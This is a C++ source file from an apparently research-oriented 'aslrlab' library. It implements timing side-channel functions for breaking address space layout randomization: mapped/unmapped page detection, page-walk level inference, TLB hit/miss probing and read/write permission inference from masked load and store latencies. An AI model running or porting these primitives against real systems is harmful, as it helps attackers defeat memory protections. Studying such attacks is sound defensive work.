#include "aslrlab/primitives.hpp"

namespace aslrlab {

const char* name(MappingVerdict v) {
  return v == MappingVerdict::Mapped ? "Mapped" : "Unmapped";
}

const char* name(WalkVerdict v) {
  switch (v) {
    case WalkVerdict::PD: return "PD";
    case WalkVerdict::PT: return "PT";
    case WalkVerdict::NonPresent: return "NonPresent";
  }
  return "?";
}

const char* name(TlbVerdict v) { return v == TlbVerdict::Hit ? "Hit" : "Miss"; }

const char* name(PermissionVerdict v) {
  switch (v) {
    case PermissionVerdict::ReadWrite: return "ReadWrite";
    case PermissionVerdict::ReadNoWrite: return "ReadNoWrite";
    case PermissionVerdict::NoAccess: return "NoAccess";
    case PermissionVerdict::Unmapped: return "Unmapped";
  }
  return "?";
}

MappingVerdict page_table_attack(Prober& p, VirtAddr addr, const Threshold& thr,
                                 const MeasurePolicy& policy) {
  const Cycles lat = measure(p, MaskedOp::Load, addr, true, policy);
  return lat < thr.value ? MappingVerdict::Mapped : MappingVerdict::Unmapped;
}

LevelBands derive_level_bands(Cycles min_mapped_latency, const ProfileHints& hints) {
  if (hints.pt_extra == 0 || hints.nonpresent_extra == 0)
    throw ConfigError("level bands need pt_extra and nonpresent_extra hints");
  LevelBands b;
  b.pd_max = min_mapped_latency + hints.pt_extra / 2;
  b.pt_max = min_mapped_latency + hints.pt_extra + hints.nonpresent_extra / 2;
  return b;
}

WalkVerdict walk_level_attack(Prober& p, VirtAddr addr, const LevelBands& bands,
                              const MeasurePolicy& policy) {
  if (bands.pd_max == 0 || bands.pt_max <= bands.pd_max)
    throw ConfigError("walk_level_attack needs ordered level bands");
  const Cycles lat = measure(p, MaskedOp::Load, addr, true, policy);
  if (lat < bands.pd_max) return WalkVerdict::PD;
  if (lat < bands.pt_max) return WalkVerdict::PT;
  return WalkVerdict::NonPresent;
}

std::vector<TlbVerdict> tlb_attack(Prober& p, std::span<const VirtAddr> addrs,
                                   Cycles separator,
                                   const std::function<void(size_t chunk)>& prepare_chunk) {
  if (separator == 0) throw ConfigError("tlb_attack needs a separator");
  std::vector<TlbVerdict> out;
  out.reserve(addrs.size());
  size_t chunk = 0;
  for (size_t i = 0; i < addrs.size(); i += kTlbChunk, chunk++) {
    if (prepare_chunk) prepare_chunk(chunk);
    const size_t end = std::min(addrs.size(), i + kTlbChunk);
    for (size_t j = i; j < end; j++) {
      const Cycles lat = p.probe(MaskedOp::Load, addrs[j], true).latency;
      out.push_back(lat <= separator ? TlbVerdict::Hit : TlbVerdict::Miss);
    }
  }
  return out;
}

Cycles calibrate_store_separator(Prober& p) {
  const VirtAddr dirty_page = p.calibration_page(PagePerms::RwDirty);
  const VirtAddr ro_page = p.calibration_page(PagePerms::Ro);
  const MeasurePolicy m = MeasurePolicy::median_of_k(5);
  const Cycles fast = measure(p, MaskedOp::Store, dirty_page, true, m);
  const Cycles slow = measure(p, MaskedOp::Store, ro_page, true, m);
  if (fast >= slow) throw ConfigError("store separator calibration is inverted");
  return static_cast<Cycles>((static_cast<uint64_t>(fast) + slow) / 2);
}

PermissionVerdict permission_attack(Prober& p, VirtAddr addr, const Threshold& thr,
                                    Cycles store_separator, const MeasurePolicy& policy,
                                    bool assume_mapped) {
  const Cycles load_lat = measure(p, MaskedOp::Load, addr, true, policy);
  if (load_lat >= thr.value)
    return assume_mapped ? PermissionVerdict::NoAccess : PermissionVerdict::Unmapped;
  const Cycles store_lat = measure(p, MaskedOp::Store, addr, true, policy);
  return store_lat < store_separator ? PermissionVerdict::ReadWrite
                                     : PermissionVerdict::ReadNoWrite;
}

}  // namespace aslrlab
